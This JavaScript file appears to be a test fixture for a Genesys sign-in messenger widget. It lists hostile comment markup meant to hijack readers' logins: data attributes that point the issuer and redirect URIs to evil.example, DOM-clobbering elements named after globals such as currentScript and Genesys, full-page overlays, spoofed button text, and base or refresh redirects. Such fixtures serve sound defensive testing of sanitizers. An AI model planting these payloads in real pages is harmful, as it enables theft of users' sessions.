// What somebody may post under an article to take the sign-in of its readers over. `%NAME%` stands for a value of the world.

/**
 * @typedef {object} Hostile
 * @property {string} html
 * @property {string} gadget A selector of what does the harm; a filter that leaves nothing of it has stopped the comment.
 * @property {string} [form] How the site's template has the element; a script at the end, after the comments, unless told.
 * @property {'signs in' | 'told' | 'settles' | 'stopped'} [end] What comes of it: unless told, a visitor signs in all the
 *   same. Told: it takes a name without which Messenger cannot start, and the failure is told. Settles: it takes a name that
 *   Messenger needs later; told or signed out, but never waiting for ever. Stopped: by every filter.
 * @property {number} [elements] How many elements may stand among the comments at most; 20, unless told.
 * @property {boolean} [covered] The comment lies over the button, which is pressed on the keyboard then.
 */

const foreign = 'https://evil.example';
const place = 'data-genesys-auth-messenger';
const provider = `data-issuer="${foreign}" data-client-id="evil" data-authorization-endpoint="${foreign}/auth"`;
const complete = `data-deployment-id="%DEPLOYMENT_ID%" data-environment="%ENVIRONMENT%" ${provider}`;
const other = 'data-deployment-id="00000000-0000-4000-8000-000000000000" data-environment="prod"';
const element = (/** @type {string} */ attributes) =>
  `<genesys-auth-messenger ${attributes}></genesys-auth-messenger>`;

const tags =
  'a abbr article aside b bdo blockquote button cite code dd del details div dl em fieldset figure footer h2 h6 ' +
  'header i ins kbd label li main map mark menu nav object ol p picture pre q s section select small span strong sub ' +
  'summary textarea time tt u ul var video';

const gadgets = {
  'a place that configures everything, silently': {
    html: `<em ${place} ${complete} data-silent>Nice</em>`,
    gadget: `em[${place}]`,
  },
  'a place with a deployment of its own': {
    html: `<em ${place} ${other} ${provider} data-silent>Nice</em>`,
    gadget: `em[${place}]`,
  },
};

/** @param {string} html @returns {Hostile} */
const configures = (html) => ({ html: html.replace('@', place), gadget: `[${place}]` });
/** A name, by each of these. @param {string} id @param {string[]} carriers */
const named = (id, ...carriers) => carriers.join('').replaceAll('@', id);
const anchor = '<a id="@">x</a>';
const picture = '<img name="@" src="/logo.svg" alt="">';
const form =
  '<form id="@"><input name="src" value="https://evil.example/x.js"><input name="q"><input name="c"></form>';
const object = '<object id="@"></object>';
const frame = '<iframe name="@"></iframe>';

/** @type {Record<string, Hostile>} */
export const comments = {
  // Cases A1 to A3: who configures.
  ...Object.fromEntries(
    ['script', 'script-last', 'element', 'place'].flatMap((name) =>
      Object.entries(gadgets).map(([title, row]) => [
        `${title}, beside the form ${name}`,
        { ...row, form: name },
      ]),
    ),
  ),
  'a place with a loopback environment of another port': configures(
    `<em @ data-deployment-id="%DEPLOYMENT_ID%" data-environment="evil.localhost:8080" ${provider}>x</em>`,
  ),
  'a place in another region of Genesys Cloud': configures(
    `<em @ data-deployment-id="%DEPLOYMENT_ID%" data-environment="%ENVIRONMENT_2_2_8%" data-issuer="%ISSUER%" data-client-id="%CLIENT_ID%">x</em>`,
  ),
  'a place with endpoints only': configures(
    `<b @ data-authorization-endpoint="${foreign}/auth" data-end-session-endpoint="${foreign}/end" data-logout="provider">x</b>`,
  ),
  'a place with another client of the right provider': configures(
    '<b @ data-issuer="%ISSUER%" data-client-id="lumenwick-app">x</b>',
  ),
  'a place with addresses to come back to': configures(
    `<b @ data-redirect-uri="${foreign}/" data-post-logout-redirect-uri="${foreign}/">x</b>`,
  ),
  'a place with further parameters': configures(
    '<b @ data-scope="openid offline_access" data-prompt="none" data-max-age="1" data-authorization-params="login_hint=evil&amp;acr_values=0">x</b>',
  ),
  'a place with switches': configures(
    '<b @ data-debug data-open data-silent data-mode="popup" data-loading="lazy" data-account="evil" data-nonce="x">x</b>',
  ),
  'places that all configure otherwise': {
    html: ['a', 'b', 'i', 'em', 'code']
      .map((tag, index) => `<${tag} ${place} ${complete.replace('"evil"', `"evil${index}"`)}>x</${tag}>`)
      .join(''),
    gadget: `[${place}]`,
  },
  'a place on every tag': {
    html: tags
      .split(' ')
      .map((tag) => `<${tag} ${place} ${complete}>x</${tag}>`)
      .join(''),
    gadget: `[${place}]`,
  },
  'a place on tags that hold nothing': {
    html: ['br', 'hr', 'img', 'input', 'wbr'].map((tag) => `<${tag} ${place} ${complete}>`).join(''),
    gadget: `[${place}]`,
  },
  'a place in a table': configures(
    `<table><tbody><tr @ ${complete}><td ${place}>x</td></tr></tbody></table>`,
  ),
  'a place in a picture': configures(
    `<svg viewBox="0 0 9 9"><g @ ${complete}><text y="9">x</text></g></svg>`,
  ),
  'a place in a formula': configures(`<math><mrow @ ${complete}><mi>x</mi></mrow></math>`),
  'a place with the script form in it': configures(
    `<div @ data-target="body" ${complete}><a href="/assets/genesys-auth-messenger.js" ${complete}>x</a></div>`,
  ),
  'fifty places': {
    html: `<p>${`<i ${place}></i>`.repeat(50)}</p>`,
    gadget: `i[${place}]`,
  },
  'places in places': configures(`<div @><div ${place}><b ${place} ${complete}>x</b></div></div>`),
  'a place that can be written in': {
    html: `<div contenteditable="true"><b ${place}>x</b></div>`,
    gadget: `[contenteditable] [${place}]`,
    elements: 0,
  },
  'a place in a template': {
    html: `<template><b ${place} ${complete}>x</b></template>`,
    gadget: 'template',
    elements: 0,
  },
  'a place with words of its own': configures(
    `<b @ data-login-label="Log in again: your session at \u202eelpmaxe.dnarb\u202c has ended${' .'.repeat(99)}" data-logout-label="${'x'.repeat(5_000)}" lang="ar" dir="rtl">x</b>`,
  ),
  'a place with content for the slots': configures(
    `<div @><a slot="login" href="${foreign}/">Log in</a><a slot="logout" href="${foreign}/">Log out</a></div>`,
  ),
  'a place that passes for the button': configures(
    `<div @ class="genesys-auth-messenger" part="button login-button" role="button" aria-label="Log in">Log in</div>`,
  ),
  'the element itself': {
    html: element(complete.replaceAll('data-', '') + ' silent'),
    gadget: 'genesys-auth-messenger',
  },
  'the element without attributes': { html: element(''), gadget: 'genesys-auth-messenger' },
  'the element with endpoints only': {
    html: element(`authorization-endpoint="${foreign}/auth" redirect-uri="${foreign}/" debug`),
    gadget: 'genesys-auth-messenger',
  },
  'the script form': {
    html: `<script src="/assets/genesys-auth-messenger.js" ${complete} async></script>`,
    gadget: 'script',
    end: 'stopped',
  },

  // Where the author's button stands.
  'the id of the target, on a comment': { html: '<h2 id="header">x</h2>', gadget: '#header' },
  'the id of the target, on a place': configures(`<h2 id="header" @ ${complete}>x</h2>`),
  'the name of the target': { html: picture.replace('@', 'header'), gadget: '[name=header]' },
  'a style that lies over the page': {
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647">x</div>',
    gadget: '[style*=fixed]',
    covered: true,
  },

  // Cases A4 and A5: names that lie.
  'a picture named currentScript': {
    html: `<img name="currentScript" src="${foreign}/x.js" alt="">`,
    gadget: '[name=currentScript]',
  },
  'currentScript as anything else': {
    html: named('currentScript', anchor, form, object, frame, '<embed name="@">'),
    gadget: '[id=currentScript]',
  },
  'the name of the snippet’s global': { html: named('_genesysJs', anchor), gadget: '#_genesysJs' },
  'Genesys as a heading': { html: '<h2 id="Genesys">x</h2>', gadget: '#Genesys' },
  'Genesys and its global together': {
    html: named('_genesysJs', anchor) + named('Genesys', anchor),
    gadget: '#Genesys',
  },
  'Genesys as a form with q and c': { html: named('Genesys', form), gadget: 'form#Genesys' },
  'Genesys as several things': {
    html: '<a id="Genesys">x</a><a id="Genesys" name="q">x</a><a id="Genesys" name="c">x</a>',
    gadget: '#Genesys',
  },
  'Genesys as a frame': { html: named('Genesys', frame), gadget: '[name=Genesys]' },
  'Genesys as a picture and an object': {
    html: named('_genesysJs', picture) + named('Genesys', object),
    gadget: '[id=Genesys]',
  },
  'trustedTypes as a link': { html: named('trustedTypes', anchor), gadget: '#trustedTypes' },
  'prerendering as a picture': { html: named('prerendering', picture), gadget: '[name=prerendering]' },
  'what tells whether a page is seen': {
    html: ['hidden', 'visibilityState', 'readyState', 'hasFocus', 'activeElement']
      .map((name) => named(name, picture))
      .join(''),
    gadget: '[name=visibilityState]',
  },
  'where a page is': {
    html: ['location', 'URL', 'documentURI', 'baseURI', 'referrer', 'cookie', 'defaultView', 'domain']
      .map((name) => named(name, picture))
      .join(''),
    gadget: '[name=baseURI]',
  },
  'windows by the names of ours': {
    html: ['opener', 'parent', 'top', 'self', 'frames', '_genesysJs', 'genesys-auth-messenger']
      .map((name) => named(name, frame))
      .join(''),
    gadget: 'iframe',
  },
  'stores and channels': {
    html: [
      'sessionStorage',
      'localStorage',
      'BroadcastChannel',
      'navigation',
      'performance',
      'crypto',
      'name',
    ]
      .map((name) => named(name, anchor, form))
      .join(''),
    gadget: '#sessionStorage',
  },
  'controls of a form elsewhere': {
    html: '<form id="event"><input name="detail"></form><input form="event" name="target"><button form="event" formaction="https://evil.example/">x</button>',
    gadget: 'form#event',
  },
  'createElement, which Messenger needs': {
    html: named('createElement', picture),
    gadget: '[name=createElement]',
    end: 'settles',
  },
  'head and body, which Messenger needs': {
    html: named('head', picture) + named('body', picture),
    gadget: '[name=head]',
    end: 'settles',
  },

  // What filters stop.
  'another base': { html: `<base href="${foreign}/">`, gadget: 'base', end: 'stopped' },
  'a page that moves on': {
    html: `<meta http-equiv="refresh" content="0; url=${foreign}/">`,
    gadget: 'meta',
    end: 'stopped',
  },
};
